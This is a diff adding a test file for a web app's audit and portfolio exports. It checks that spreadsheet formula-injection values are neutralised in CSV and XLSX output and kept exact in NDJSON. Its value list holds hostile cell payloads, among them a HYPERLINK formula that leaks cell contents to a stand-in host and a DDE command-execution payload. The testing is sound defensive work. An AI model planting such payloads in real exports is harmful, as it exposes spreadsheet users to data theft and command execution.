@@ -1,0 +1,128 @@
+// A corpus of hostile cell values round-trips through the CSV and XLSX exports: every value that a spreadsheet
+// would evaluate as a formula comes back prefixed with a single quote, and nothing else about any value changes.
+import { parse } from "csv-parse/sync";
+import { beforeAll, describe, expect, it } from "vitest";
+import { seedDatabase } from "../../prisma/seed";
+import { db } from "~/lib/db.server";
+import { decodeXlsxText, neutraliseFormula } from "~/lib/csv-safety";
+import { auditedTransaction, SYSTEM_CONTEXT } from "~/models/audit.server";
+import { loader as csvLoader } from "~/routes/exports.audit[.]csv";
+import { loader as xlsxLoader } from "~/routes/exports.audit[.]xlsx";
+import { loader as ndjsonLoader } from "~/routes/exports.audit[.]ndjson";
+import { loader as portfolioLoader } from "~/routes/exports.portfolio[.]xlsx";
+import { callLoader, readXlsx, sessionCookieFor } from "./history-fixtures";
+
+const CORPUS = [
+  "=1+1",
+  '=HYPERLINK("http://evil.example/?q="&A1,"click")',
+  "=cmd|' /C calc'!A0",
+  "+SUM(A1:A3)",
+  "-2+3",
+  "@SUM(A1)",
+  "\t=1+1",
+  "\tleading tab",
+  "\r=1+1",
+  "\rleading carriage return",
+  "\nleading line feed",
+  "\r\nleading CRLF",
+  "-",
+  "=",
+  "plain text",
+  " =space first is not a formula",
+  "a=b+c",
+  "'already quoted",
+  'He said "hello", then left',
+  "comma, separated, values",
+  "line one\nline two\r\nline three\rline four",
+  "trailing newline\n",
+  "Привет, мир! Ёлка",
+  "Қазақстан: әғқңөұүһі ӘҒҚҢӨҰҮҺІ",
+  "emoji 😀👍🏽🇰🇿",
+  "_x000D_ looks like an OOXML escape",
+  "control \u0001 and \u001f characters",
+  "#not a comment",
+  "x".repeat(10_240),
+  `=${"y".repeat(10_000)}`,
+];
+
+const expected = (value: string) => neutraliseFormula(value);
+const TRIGGERS = /^[=+\-@\t\r\n]/;
+
+let auditorCookie = "";
+
+beforeAll(async () => {
+  await seedDatabase(db);
+  auditorCookie = await sessionCookieFor("auditor@qadam.test");
+  const projects = await db.project.findMany({ orderBy: { code: "asc" }, take: 8 });
+  // Each hostile value is the reason of a real audit event, written the way every change is written.
+  for (const [i, value] of CORPUS.entries()) {
+    const project = projects[i % projects.length];
+    await auditedTransaction(SYSTEM_CONTEXT, async (_tx, audit) => {
+      await audit({ action: "test.hostile", entityType: "Project", entityId: project.id, projectId: project.id, reason: value });
+    });
+  }
+  // And the first few are project names, for the portfolio workbook.
+  for (const [i, project] of projects.entries()) {
+    await auditedTransaction(SYSTEM_CONTEXT, async (tx, audit) => {
+      const after = await tx.project.update({ where: { id: project.id }, data: { name: CORPUS[i], version: { increment: 1 } } });
+      await audit({ action: "project.edit", entityType: "Project", entityId: project.id, projectId: project.id, before: project, after });
+    });
+  }
+}, 120_000);
+
+describe("hostile cell corpus", () => {
+  it("the corpus exercises every trigger character", () => {
+    for (const trigger of ["=", "+", "-", "@", "\t", "\r", "\n"]) expect(CORPUS.some((v) => v.startsWith(trigger))).toBe(true);
+    expect(CORPUS.filter((v) => TRIGGERS.test(v)).length).toBeGreaterThan(10);
+  });
+
+  it("round-trips through CSV (RFC 4180, parsed by csv-parse) with formulas neutralised and nothing else changed", async () => {
+    for (const bom of ["0", "1"]) {
+      const response = await callLoader(csvLoader, `/exports/audit.csv?action=test.hostile&bom=${bom}`, { cookie: auditorCookie });
+      const records = parse(await response.text(), { bom: true }) as string[][];
+      const header = records.find((r) => r[0] === "seq")!;
+      const reasonAt = header.indexOf("reason");
+      const rows = records.slice(records.indexOf(header) + 1);
+      expect(rows.map((r) => r[reasonAt])).toEqual(CORPUS.map(expected));
+      for (const row of rows) expect(row.every((cell) => !TRIGGERS.test(cell))).toBe(true);
+    }
+  });
+
+  it("round-trips through the audit XLSX with formulas neutralised and nothing else changed", async () => {
+    const response = await callLoader(xlsxLoader, "/exports/audit.xlsx?action=test.hostile", { cookie: auditorCookie });
+    const workbook = await readXlsx(response);
+    const sheet = workbook.getWorksheet("events")!;
+    const header = (sheet.getRow(1).values as unknown[]).slice(1);
+    const reasonAt = header.indexOf("reason") + 1;
+    const reasons: string[] = [];
+    sheet.eachRow((row, n) => {
+      if (n === 1) return;
+      const cell = row.getCell(reasonAt);
+      expect(cell.type).toBe(3); // ValueType.String: never a formula cell
+      reasons.push(decodeXlsxText(String(cell.value)));
+      row.eachCell((c) => {
+        expect(c.formula).toBeUndefined();
+        if (typeof c.value === "string") expect(TRIGGERS.test(decodeXlsxText(c.value))).toBe(false);
+      });
+    });
+    expect(reasons).toEqual(CORPUS.map(expected));
+  });
+
+  it("keeps NDJSON exact (JSON is not a spreadsheet: no quote is added)", async () => {
+    const response = await callLoader(ndjsonLoader, "/exports/audit.ndjson?action=test.hostile", { cookie: auditorCookie });
+    const lines = (await response.text()).trimEnd().split("\n").slice(1);
+    expect(lines.map((l) => (JSON.parse(l) as { reason: string }).reason)).toEqual(CORPUS);
+  });
+
+  it("neutralises hostile project names in the portfolio workbook", async () => {
+    const response = await callLoader(portfolioLoader, "/exports/portfolio.xlsx", { cookie: auditorCookie });
+    const workbook = await readXlsx(response);
+    const names: string[] = [];
+    workbook.getWorksheet("projects")!.eachRow((row, n) => {
+      if (n > 1) names.push(decodeXlsxText(String(row.getCell(2).value)));
+    });
+    const projects = await db.project.findMany({ orderBy: { code: "asc" } });
+    expect(names).toEqual(projects.map((p) => expected(p.name)));
+    expect(names.slice(0, 8)).toEqual(CORPUS.slice(0, 8).map(expected));
+  });
+});
